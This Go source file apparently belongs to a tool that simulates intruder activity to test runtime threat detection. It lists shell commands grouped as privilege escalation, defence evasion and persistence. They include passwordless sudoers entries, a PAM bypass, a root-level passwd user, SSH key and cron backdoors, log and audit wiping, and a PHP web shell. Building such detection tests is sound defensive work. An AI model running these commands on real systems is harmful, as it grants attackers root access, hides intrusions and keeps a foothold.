package simulate

// fileChanges are the reproductions of changes to sensitive files. They count only beside something else that is
// suspicious, so an intruder does them: with a program that was dropped just now, or over a reverse shell.
func fileChanges() []Reproduction {
	return []Reproduction{
		{"PrivilegeEscalation:Runtime/SensitiveFileModified", "An intruder changes who may become root.", []Technique{
			act("write", "a line for sudo", "intruder", "dropped", "mkdir -p /etc/sudoers.d; echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-app").needs("mkdir"),
			act("rename", "another set of rules for sshd's logins", "intruder", "shell", "mkdir -p /etc/pam.d; echo 'auth sufficient pam_permit.so' > /etc/pam.d/.x; mv /etc/pam.d/.x /etc/pam.d/sshd").needs("mkdir", "mv"),
			act("link", "a hard link as a file of sudo", "intruder", "dropped", "mkdir -p /etc/sudoers.d; echo 'app ALL=(ALL) ALL' > /etc/sudoers.d/.y; rm -f /etc/sudoers.d/10-y; ln /etc/sudoers.d/.y /etc/sudoers.d/10-y").needs("mkdir", "ln", "rm"),
			act("symlink", "a symbolic link as a file of PAM", "intruder", "shell", "mkdir -p /etc/pam.d; ln -sf /tmp/su /etc/pam.d/su").needs("mkdir", "ln"),
			act("append", "sudoers itself", "intruder", "shell", "echo '%app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"),
			act("perl", "from perl", "intruder", "dropped", `perl -e 'open(F,">>","/etc/sudoers"); print F "#\n"; close F'`).needs("perl"),
		}},
		{"DefenseEvasion:Runtime/SensitiveFileModified", "An intruder changes what would tell of him.", []Technique{
			act("unlink", "a log is removed", "intruder", "dropped", "mkdir -p /var/log; echo x > /var/log/auth.log; rm /var/log/auth.log").needs("mkdir", "rm"),
			act("truncate", "a log is emptied", "intruder", "shell", "mkdir -p /var/log; : > /var/log/wtmp").needs("mkdir"),
			act("history", "the shell's history leads nowhere", "intruder", "shell", "ln -sf /dev/null /root/.bash_history").needs("ln"),
			act("audit", "the audit's configuration", "intruder", "dropped", "mkdir -p /etc/audit; echo 'write_logs = no' > /etc/audit/auditd.conf").needs("mkdir"),
			act("rename", "a log is moved away", "intruder", "dropped", "mkdir -p /var/log; echo x > /var/log/secure; mv /var/log/secure /tmp/.secure").needs("mkdir", "mv"),
			act("history-unlink", "the shell's history is removed", "intruder", "shell", "echo x > /home/app/.bash_history; rm -f /home/app/.bash_history").needs("rm"),
		}},
		{"Persistence:Runtime/SensitiveFileModified", "An intruder changes what lets him come back.", []Technique{
			act("write", "a key for root", "intruder", "shell", "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFRoaXMgaXMgbm8ga2V5IGF0IGFsbCwgcmVhbGx5 x@x' >> /root/.ssh/authorized_keys").needs("mkdir"),
			act("rename", "another list of users", "intruder", "dropped", "cp /etc/passwd /etc/passwd.new; echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd.new; mv /etc/passwd.new /etc/passwd").needs("cp", "mv"),
			act("link", "a task for cron by a hard link", "intruder", "dropped", "mkdir -p /etc/cron.d; echo '* * * * * root /tmp/.x' > /tmp/.cron; rm -f /etc/cron.d/sysstat; ln /tmp/.cron /etc/cron.d/sysstat").needs("mkdir", "ln", "rm"),
			act("symlink", "a start-up script by a symbolic link", "intruder", "shell", "mkdir -p /etc/init.d; ln -sf /tmp/.x /etc/init.d/network-helper").needs("mkdir", "ln"),
			act("profile", "what every shell of the user runs", "intruder", "shell", "echo '/tmp/.x &' >> /home/app/.bashrc"),
			act("web", "a script of the web service", "intruder", "dropped", "mkdir -p /var/www/html; echo '<?php system($_GET[0]); ?>' > /var/www/html/index.php").needs("mkdir"),
		}},
	}
}
